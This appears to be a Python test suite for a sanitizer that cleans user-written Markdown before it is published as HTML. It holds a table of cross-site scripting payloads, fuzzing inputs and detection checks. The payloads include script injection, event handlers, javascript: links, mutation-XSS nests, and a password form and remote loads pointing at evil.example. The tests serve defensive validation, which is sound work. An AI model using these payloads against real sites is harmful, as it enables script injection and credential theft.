"""A person's Markdown on pages: what the sanitizer keeps, removes and names, in both ways of building."""

from __future__ import annotations

import html
import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.publish.people import sanitizing
from generator.publish.people.notation import Mathematics
from generator.publish.people.sanitizing import ALLOWED, is_of_a_script, removed
from generator.text import tex

# Markdown that runs, loads from elsewhere or asks for a password, with the part that `check` must name.
HOSTILE = {
    "<script>alert(1)</script>": "<script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>": "<script>",
    '<img src="x.png" onerror="alert(1)">': 'onerror="alert(1)" of <img>',
    "[click](javascript:alert(1))": 'href="javascript:alert(1)" of <a>',
    '<a href="java&#10;script:alert(1)">x</a>': 'href="java script:alert(1)" of <a>',
    "<svg/onload=alert(1)>": 'onload="alert(1)" of <svg>',
    "<svg><script>alert(1)</script></svg>": "<script>",
    "<svg><use href='#x'/></svg>": "<use>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>': 'xlink:href="javascript:alert(1)" of <mi>',
    "<iframe src=https://evil.example/></iframe>": "<iframe>",
    "<object data=x></object>": "<object>",
    "<embed src=x>": "<embed>",
    "<style>body { display: none }</style>": "<style>",
    '<p style="position: fixed; background: url(//evil.example/x)">x</p>': "position in style of <p>",
    '<form action="https://evil.example/"><input name="password" type="password"></form>': "<form>",
    '<button onclick="alert(1)">x</button>': "<button>",
    "<textarea>x</textarea>": "<textarea>",
    '<base href="https://evil.example/">': "<base>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "<meta>",
    '<link rel="stylesheet" href="https://evil.example/x.css">': "<link>",
    "![x](https://evil.example/x.png)": 'src="https://evil.example/x.png" of <img>',
    '<img src="//evil.example/x.png">': 'src="//evil.example/x.png" of <img>',
    '<img src="/\\evil.example/x.png">': 'src="/\\evil.example/x.png" of <img>',
    '<img src="x.png" srcset="//evil.example/x.png 2x">': 'srcset="//evil.example/x.png 2x" of <img>',
    '<video src="x.mp4" poster="//evil.example/x"></video>': 'poster="//evil.example/x" of <video>',
    '<a class="note md-header" href="x">x</a>': 'class="md-header" of <a>',
    '<pre class="mermaid"><code>graph TD</code></pre>': 'class="mermaid" of <pre>',
    '<div class="lightbox">x</div>': 'class="lightbox" of <div>',
    '<p style="color: red; width: 9999px">x</p>': "width in style of <p>",
    '<p style="margin-left: -99em">x</p>': "margin-left in style of <p>",
    '<svg width="99999" viewBox="0 0 1 1"></svg>': 'width="99999" of <svg>',
    '<label for="__drawer">x</label>': 'for="__drawer" of <label>',
    '<p id="__config">{"base": "https://evil.example"}</p>': 'id="__config" of <p>',
    '<img name="currentScript" src="x.png">': 'name="currentScript" of <img>',
    '<div data-md-component="palette">x</div>': 'data-md-component="palette" of <div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>': "<noscript>",
    "<template><script>alert(1)</script></template>": "<template>",
    '<math><mtext><table><mglyph><style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">': "<mglyph>",
}  # fmt: skip
_RUNS = re.compile(r"(.*:)?(script|style|iframe|object|embed|form|base|meta|link|template|noscript)")
GOOD = """\
## Reading

*Emphasis*, **strong**, `code`, ~~struck~~, [a link](https://example.org/?a=1&b=2 "title"), <kbd>Ctrl</kbd>.

| left | right |
| :- | -: |
| $x^2 < y$ | 2 |

```python
x = "<script>" & 1
```

> Said.

3. three
4. four

<details open><summary>More</summary>Within.</details>

![A picture](picture.png){ width="120" loading=lazy }

A paragraph with a class.
{ .remark #own-id }

$$\\begin{matrix} a & b \\\\ c & d \\end{matrix}$$
"""


def sanitized(text: str) -> str:
    return sanitizing.sanitized(text).html


def converted(markdown: str) -> str:
    from markdown import Markdown

    extensions = ["attr_list", "tables", "toc", "fenced_code", "md_in_html"]
    return Markdown(extensions=[*extensions, Mathematics()]).convert(markdown)


class Elements(HTMLParser):
    """The elements of HTML, with their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.all: list[tuple[str, dict[str, str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.all.append((tag, {name: value or "" for name, value in attrs}))


def harmless(text: str) -> None:
    """Check that nothing in HTML runs or asks another host."""
    for tag, attributes in Elements(text).all:
        assert tag in ALLOWED and not _RUNS.fullmatch(tag), (tag, text)
        for name, value in attributes.items():
            if (tag, name) == ("mo", "form"):  # where a formula's sign stands
                continue
            assert not name.startswith(("on", "data-md", "form", "action", "srcdoc", "srcset", "xlink")), text
            address = re.sub(r"[\s\x00-\x20]", "", value).lower()
            if name in ("href", "src", "poster", "cite"):
                assert not address.startswith(("javascript:", "data:", "vbscript:", "blob:", "file:")), text
            if name in ("src", "poster"):
                assert not re.match(r"[a-z][\w+.-]*:|[/\\]{2}", address), text
            if name == "style":
                assert not re.search(r"url|position|expression|image", value), text
            if name == "class":
                assert not re.search(r"\bmd-|mermaid|lightbox", value), text
            assert name not in ("id", "for") or not is_of_a_script(value), text


@pytest.mark.parametrize(("markdown", "part"), HOSTILE.items())
def test_what_is_hostile_is_taken_out_and_named(markdown: str, part: str) -> None:
    made = converted(f"Before.\n\n{markdown}\n")
    harmless(sanitized(made))
    assert "Before." in sanitized(made)
    assert part in removed(made)


def test_what_markdown_makes_stays() -> None:
    made = converted(GOOD)
    assert removed(made) == []
    clean = sanitized(made)
    before, after = (Counter(tag for tag, _ in Elements(text).all) for text in (made, clean))
    assert before == after
    for kept in (
        'style="text-align:right"',
        'width="120"',
        "<details open",
        'id="own-id"',
        "&lt;script",
    ):
        assert kept in clean
    assert sanitized(clean) == clean


@given(
    st.text(
        alphabet=st.sampled_from("abn<>/=\"' &;:!-\\`()x#\n\t\0") | st.characters(exclude_categories=["Cs"]),
        max_size=80,
    )
)
def test_any_text(text: str) -> None:
    clean = sanitized(text)
    harmless(clean)
    assert sanitized(clean) == clean
    escaped = html.escape(text.replace("\0", "").replace("\r", ""))
    assert html.unescape(sanitized(f"<p>{escaped}</p>")) == f"<p>{html.unescape(escaped)}</p>"


def test_a_lone_surrogate_is_no_error() -> None:
    assert sanitized("<p>a\ud800</p>") == "<p>a?</p>"


_NAMES = st.sampled_from([*ALLOWED, "script", "style", "iframe", "svg", "math", "form", "mglyph", "noscript",
    "foreignObject", "annotation-xml", "desc", "title", "table", "select", "template", "xmp"])  # fmt: skip
_ATTRIBUTES = st.sampled_from(["", ' onload="alert(1)"', " href=javascript:alert(1)", ' src="//e.example/x"',
    ' style="background:url(x)"', ' title="</title><img src=x onerror=alert(1)>"', " id=__config",
    " encoding=text/html", ' class="a"', " name=body", "/"])  # fmt: skip
_TEXTS = st.sampled_from(["", "x", "<!--", "-->", "]]>", "<![CDATA[", "</p>", "<?x",
    "&lt;img src=x onerror=alert(1)&gt;", "<a <b", "\0", '"', "\u2061"])  # fmt: skip
_PIECES = st.lists(st.tuples(_NAMES, _ATTRIBUTES, _TEXTS, st.booleans()), max_size=12)


@given(_PIECES)
def test_any_nest_of_html_svg_and_mathml(pieces: list[tuple[str, str, str, bool]]) -> None:
    """Where namespaces meet, some sanitizers parse their own output differently."""
    closed = "".join(
        f"<{name}{more}>{text}" + (f"</{name}>" if ends else "") for name, more, text, ends in pieces
    )
    clean = sanitized(closed)
    harmless(clean)
    again = sanitized(clean)
    harmless(again)
    assert removed(clean) == []


@given(st.text(alphabet=st.sampled_from("xy12+-=<>&^_{}()[]|,.\\ ") | st.sampled_from("αβ∈"), max_size=40))
def test_any_formula_stays(formula: str) -> None:
    made = tex.to_mathml(formula)
    assert removed(made) == []
    shown = re.sub(r"<(\w+)([^<>]*)/>", r"<\1\2></\1>", made)
    without_style = re.compile(r' style="[^"]*"')
    assert html.unescape(without_style.sub("", sanitized(made))) == html.unescape(
        without_style.sub("", shown)
    )


MATERIAL = """
!!! note "Mind"
    An admonition.

??? tip
    One that unfolds.

=== "One"
    First.

=== "Two"
    Second.

- [x] Done
- [ ] Not done

Term
:   What it means.[^1]

[^1]: A footnote.

==marked== ~~gone~~ H~2~O x^2^ ++ctrl+c++

``` { .python linenums="1" }
x = 1
```

<div class="grid cards" markdown>

- A card

</div>

<figure markdown="span">
  ![A picture](picture.png)
  <figcaption>What it shows</figcaption>
</figure>
"""
EXTENSIONS = (
    "admonition attr_list def_list footnotes md_in_html tables toc pymdownx.details pymdownx.superfences "
    "pymdownx.tabbed pymdownx.tasklist pymdownx.highlight pymdownx.mark pymdownx.tilde pymdownx.caret "
    "pymdownx.keys"
)


def test_what_material_documents_stays() -> None:
    """Except what needs other hosts; https://squidfunk.github.io/mkdocs-material/reference/."""
    from markdown import Markdown

    options: dict[str, dict[str, object]] = {
        "pymdownx.tabbed": {"alternate_style": True},
        "pymdownx.tasklist": {"custom_checkbox": True},
    }
    made = Markdown(extensions=EXTENSIONS.split(), extension_configs=options).convert(MATERIAL)
    for sign in ("tabbed-set", "task-list", "admonition", "footnote", "<kbd", "linenos"):
        assert sign in made
    assert removed(made) == []


def test_what_another_look_cleans_keeps_its_elements() -> None:
    assert sanitized("<h1><x><h1>Moss</h1></x></h1>").count("<h1>") == 2
